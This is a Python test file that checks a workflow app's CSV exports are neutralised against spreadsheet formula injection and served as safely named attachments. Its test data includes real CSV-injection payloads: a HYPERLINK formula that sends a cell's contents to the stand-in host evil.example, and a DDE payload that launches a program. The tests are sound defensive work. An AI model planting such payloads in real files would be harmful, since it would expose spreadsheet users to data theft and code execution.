"""Every `/flow/` CSV opens in a spreadsheet as data, never as formulas (OWASP's CSV
injection rule): a text cell starting with `=`, `+`, `-`, `@`, tab or carriage return is
prefixed with a single quote; numbers and instants stay as they are; the file is an
attachment with a safe name."""

import csv
import io
import re
from datetime import datetime

import pytest

from boards.admission import task_move
from boards.services import task_block
from boards.structure import step_update
from common.renderers import spreadsheet_cell
from tests.flow.history import ENDPOINTS

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab",
    "\rCR",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_board(workflow, board, make_task, owner):
    """Steps, a title, a force reason and a block reason that a spreadsheet would run as formulas."""
    backlog, doing, done = board
    workflow.name = '=HYPERLINK("x")/../Delivery board'
    workflow.save()
    for step, name in zip(board, HOSTILE, strict=False):
        step.name = name
        step.save()
    step_update(step=doing, actor=owner, on_full="queue")  # the configuration history names the step
    finished = make_task(doing, HOSTILE[4])
    make_task(doing, "second")
    task_move(task=finished, to_step=done, actor=owner)
    third = make_task(doing, "third")
    task_block(task=third, actor=owner, reason=HOSTILE[3])
    forced = make_task(backlog, "forced in")
    task_move(task=forced, to_step=doing, actor=owner, force=True, reason=HOSTILE[0])
    return workflow


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


def is_number_or_instant(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        pass
    try:
        datetime.fromisoformat(cell)
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("name", ENDPOINTS)
def test_no_text_cell_of_a_flow_csv_starts_a_formula(api, hostile_board, name):
    response = api.get(f"/api/v1/workflows/{hostile_board.pk}/flow/{name}/?format=csv")
    assert response.status_code == 200
    rows = rows_of(response)
    assert len(rows) >= 2
    for row in rows:
        for cell in row:
            assert is_number_or_instant(cell) or not cell.startswith(TRIGGERS), (name, cell)


@pytest.mark.parametrize("name", ENDPOINTS)
def test_a_flow_csv_is_an_attachment_named_for_the_board_and_figure(api, hostile_board, name):
    response = api.get(f"/api/v1/workflows/{hostile_board.pk}/flow/{name}/?format=csv")
    disposition = response["Content-Disposition"]
    assert disposition == f'attachment; filename="hyperlinkxdelivery-board-{name}.csv"'
    assert re.fullmatch(r'attachment; filename="[a-z0-9-]+\.csv"', disposition)


def test_hostile_names_titles_and_reasons_come_back_quoted_whole(api, hostile_board):
    base = f"/api/v1/workflows/{hostile_board.pk}/flow/"
    cfd_header = rows_of(api.get(base + "cfd/?format=csv"))[0]
    assert cfd_header[1:4] == ["'" + HOSTILE[0], "'" + HOSTILE[1], "'" + HOSTILE[2]]
    titles = [row[1] for row in rows_of(api.get(base + "cycle-times/?format=csv"))[1:]]
    assert titles == ["'" + HOSTILE[4]]
    limits = rows_of(api.get(base + "limits/?format=csv"))
    assert limits[1][2] == "'" + HOSTILE[1]  # In Progress, the limited step
    assert limits[1][-1] == f"forced by olivia: {HOSTILE[0]}"  # not at the start: inert
    queues = rows_of(api.get(base + "queues/?format=csv"))
    assert [row[1] for row in queues[1:]] == ["'" + n for n in HOSTILE[:3]]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-3, -3),
        (-2.5, -2.5),
        (0, 0),
        ("-3", "'-3"),
        ("=1+1", "'=1+1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("@user", "'@user"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Review", "Review"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (True, True),
        (datetime.fromisoformat("2024-03-01T00:00:00+00:00"), "2024-03-01T00:00:00+00:00"),
    ],
)
def test_a_cell_is_neutralised_only_when_it_is_text_that_starts_a_formula(value, cell):
    assert spreadsheet_cell(value) == cell
